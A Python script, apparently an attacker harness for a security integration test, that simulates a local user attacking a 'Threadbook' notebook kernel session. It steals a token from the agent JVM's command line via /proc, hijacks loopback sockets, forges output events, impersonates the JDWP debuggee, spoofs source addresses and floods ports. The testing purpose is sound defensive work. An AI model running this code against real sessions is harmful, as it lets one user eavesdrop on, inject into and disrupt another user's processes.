# Another local user attacking a Threadbook session (run by LocalAttackIT, as user nobody or as the
# victim's own uid). It watches /proc for the agent JVM, reads its command line (world-readable) and races
# the agent to the kernel's loopback ports. Everything it sees or achieves goes to stdout, one line each.
#
# usage: attacker.py SECONDS KERNEL_PID MODE TARGET...
#   KERNEL_PID: only the agent of this kernel is attacked (other sessions on the machine are left alone)
#   MODE steal: use a token found on the agent's command line (a wrong one if there is none)
#   MODE blind: never use it: connect with a wrong secret, and with nothing at all
#   MODE siege: from 127.0.0.2.. with the target port as source port (a look-up by port number alone then
#               finds the kernel's own socket), hold connections silent (answer JDWP's handshake on the
#               debug port), and flood every target with non-blocking connects (FLOOD_RATE a second)
#   TARGET events | control | debug | iopub:PORT
#   iopub:PORT subscribes to everything on the kernel's iopub port at once (racing the user's own client),
#   connecting again whenever the kernel drops it; needs pyzmq
import collections, errno, os, socket, struct, sys, threading, time

seconds, kernel, mode, targets = float(sys.argv[1]), sys.argv[2], sys.argv[3], set(sys.argv[4:])
deadline = time.time() + seconds
lock = threading.Lock()
FORGED = b"FORGED BY THE ATTACKER\n"


def say(*words):
    with lock:
        print(*words, flush=True)


def agents():
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                with open('/proc/%s/cmdline' % pid, 'rb') as f:
                    args = f.read().split(b'\0')
                if b'threadbook.agent.ThreadbookAgent' in args:
                    with open('/proc/%s/status' % pid) as f:
                        if ('PPid:\t%s\n' % kernel) not in f.read():
                            continue
            except OSError:
                continue
            if b'threadbook.agent.ThreadbookAgent' in args:
                yield pid, [a.decode('utf-8', 'replace') for a in args if a]


def connect(target, name='?'):
    """A loopback TCP port (an int), or a Unix-domain socket's path (a str): the kernel puts the agent's
    command and event sockets in the user's private folder, which another user cannot enter."""
    while time.time() < deadline:
        try:
            if isinstance(target, str):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.settimeout(2)
                s.connect(target)
                return s
            return socket.create_connection(('127.0.0.1', target), timeout=2)
        except PermissionError as e:
            say(name, 'UNREACHABLE', e)
            return None
        except OSError:
            time.sleep(0.001)
    return None


def drain(name, s):
    """Reads whatever the kernel sends us: input replies, JShell commands, JDWP packets."""
    got = 0
    s.settimeout(0.5)
    while time.time() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except OSError as e:
            say(name, 'CLOSED', e)
            return
        if not data:
            say(name, 'CLOSED by the kernel after', got, 'bytes')
            return
        got += len(data)
        say(name, 'RECEIVED', data.hex())


def forge(s):
    # Stream events (Event.STREAM = 1) into every cell the victim may run.
    for _ in range(int(seconds)):
        try:
            for cell in range(0, 12):
                s.sendall(struct.pack('>BqBi', 1, cell, 1, len(FORGED)) + FORGED)
        except OSError:
            return
        time.sleep(1)


def attack_events(port, token):
    secret = token if (mode == 'steal' and token) else '0' * 64
    s = connect(port, 'events')
    if s is None:
        return
    say('events CONNECTED with', 'stolen token' if secret == token else 'a wrong secret')
    try:
        s.sendall((secret + '\n').encode())
    except OSError:
        pass
    threading.Thread(target=forge, args=(s,), daemon=True).start()
    threading.Thread(target=drain, args=('events', s), daemon=True).start()
    if mode == 'blind':
        silent = connect(port, 'events')
        if silent is not None:
            say('events CONNECTED silently')
            threading.Thread(target=drain, args=('events-silent', silent), daemon=True).start()


def attack_control(port):
    s = connect(port, 'control')
    if s is None:
        return
    say('control CONNECTED silently')
    threading.Thread(target=drain, args=('control', s), daemon=True).start()
    if mode == 'blind':
        wrong = connect(port, 'control')
        if wrong is not None:
            wrong.sendall(b'0' * 64 + b'\n')
            say('control CONNECTED with a wrong secret')
            threading.Thread(target=drain, args=('control-wrong', wrong), daemon=True).start()


def attack_debug(port):
    s = connect(port, 'debug')
    if s is None:
        return
    try:
        s.settimeout(5)
        hello = s.recv(14)
        if hello == b'JDWP-Handshake':
            s.sendall(hello)
            say('debug HANDSHAKE done: the kernel takes us for the Java process')
    except OSError as e:
        say('debug CLOSED', e)
        return
    threading.Thread(target=drain, args=('debug', s), daemon=True).start()


SPOOFED_SOURCES = 8
FLOOD_RATE = 3000


def spoof(name, port, address):
    """Connects from address:port to the kernel's port, holds the connection silent, again when closed."""
    held = 0
    while time.time() < deadline:
        s = socket.socket()
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((address, port))
            s.settimeout(2)
            s.connect(('127.0.0.1', port))
        except OSError as e:
            s.close()
            if e.errno == errno.ECONNREFUSED:
                say(name, 'from', address, 'held', held, 'connections until the port closed')
                return
            time.sleep(0.01)
            continue
        held += 1
        if name == 'debug-spoof':
            try:
                hello = s.recv(14)
                if hello == b'JDWP-Handshake':
                    s.sendall(hello)
                    say('debug HANDSHAKE done: the kernel takes us for the Java process')
            except OSError:
                pass
        s.settimeout(None)
        try:
            while time.time() < deadline:
                data = s.recv(65536)
                if not data:
                    break
                say(name, 'RECEIVED', data.hex())
        except OSError:
            pass
        s.close()


def flood(ports):
    """Non-blocking connects round the ports at FLOOD_RATE a second; says each second how many landed."""
    held = collections.deque()
    start = time.time()
    tried = landed = 0
    second, tried_then, landed_then = 1, 0, 0
    paced, paced_tried = start, 0
    while time.time() < deadline:
        for port in ports:
            s = socket.socket()
            s.setblocking(False)
            err = s.connect_ex(('127.0.0.1', port))
            tried += 1
            if err in (0, errno.EINPROGRESS):
                landed += 1
                held.append((time.time(), s))
            else:
                s.close()
        while held and (len(held) > 4000 or held[0][0] < time.time() - 1):
            held.popleft()[1].close()
        now = time.time()
        if now >= start + second:
            say('FLOOD', second, 'tried', tried - tried_then, 'connected', landed - landed_then)
            second, tried_then, landed_then = second + 1, tried, landed
        ahead = paced + (tried - paced_tried) / FLOOD_RATE - now
        if ahead > 0:
            time.sleep(ahead)
        elif ahead < -0.1:
            paced, paced_tried = now, tried  # fell behind (a busy machine): no bursts to catch up



def siege(ports):
    for name, port in ports.items():
        for i in range(SPOOFED_SOURCES):
            threading.Thread(target=spoof, args=(name + '-spoof', port, '127.0.0.%d' % (2 + i)), daemon=True).start()
    threading.Thread(target=flood, args=(list(ports.values()),), daemon=True).start()

def listen_iopub(port):
    try:
        import zmq
        from zmq.utils.monitor import recv_monitor_message
    except ImportError as e:
        say('iopub CANNOT import zmq:', e)
        return
    ctx = zmq.Context()
    sub = ctx.socket(zmq.SUB)
    sub.setsockopt(zmq.SUBSCRIBE, b'')
    monitor = sub.get_monitor_socket()
    sub.connect('tcp://127.0.0.1:%d' % port)
    names = {zmq.EVENT_CONNECTED: 'CONNECTED', zmq.EVENT_DISCONNECTED: 'DISCONNECTED',
             zmq.EVENT_HANDSHAKE_SUCCEEDED: 'HANDSHAKE succeeded: the kernel let us in'}
    counts = {}
    poller = zmq.Poller()
    poller.register(sub, zmq.POLLIN)
    poller.register(monitor, zmq.POLLIN)
    while time.time() < deadline:
        for s, _ in poller.poll(500):
            if s is sub:
                say('iopub RECEIVED', b''.join(sub.recv_multipart()).hex())
            else:
                name = names.get(recv_monitor_message(monitor)['event'])
                if name:
                    counts[name] = counts.get(name, 0) + 1
                    if counts[name] == 1:
                        say('iopub', name)


for t in targets:
    if t.startswith('iopub:'):
        threading.Thread(target=listen_iopub, args=(int(t.split(':')[1]),), daemon=True).start()

seen = set()
while time.time() < deadline:
    for pid, args in agents():
        if pid in seen:
            continue
        seen.add(pid)
        say('AGENT', pid, ' '.join(args))
        token, events, debug = None, None, None
        for a in args:
            if a.startswith('-Dthreadbook.events.token='):
                token = a.split('=', 1)[1]
            if a.startswith('-Dthreadbook.events.port='):
                events = int(a.split('=', 1)[1])
            if a.startswith('-Dthreadbook.events.socket='):
                events = a.split('=', 1)[1]
            if a.startswith('-agentlib:jdwp=') and 'address=' in a:
                debug = int(a.split('address=', 1)[1].split(',')[0].rsplit(':', 1)[1])
        control = int(args[-1]) if args[-1].isdigit() else args[-1]
        if mode == 'siege':
            ports = {'debug': debug, 'control': control, 'events': events}
            siege({name: port for name, port in ports.items() if name in targets and isinstance(port, int)})
            for name, path in ports.items():
                if name in targets and isinstance(path, str):
                    threading.Thread(target=connect, args=(path, name), daemon=True).start()
            continue
        if 'debug' in targets and debug:
            threading.Thread(target=attack_debug, args=(debug,), daemon=True).start()
        if 'control' in targets:
            threading.Thread(target=attack_control, args=(control,), daemon=True).start()
        if 'events' in targets and events:
            threading.Thread(target=attack_events, args=(events, token), daemon=True).start()
    time.sleep(0.001)
say('DONE')
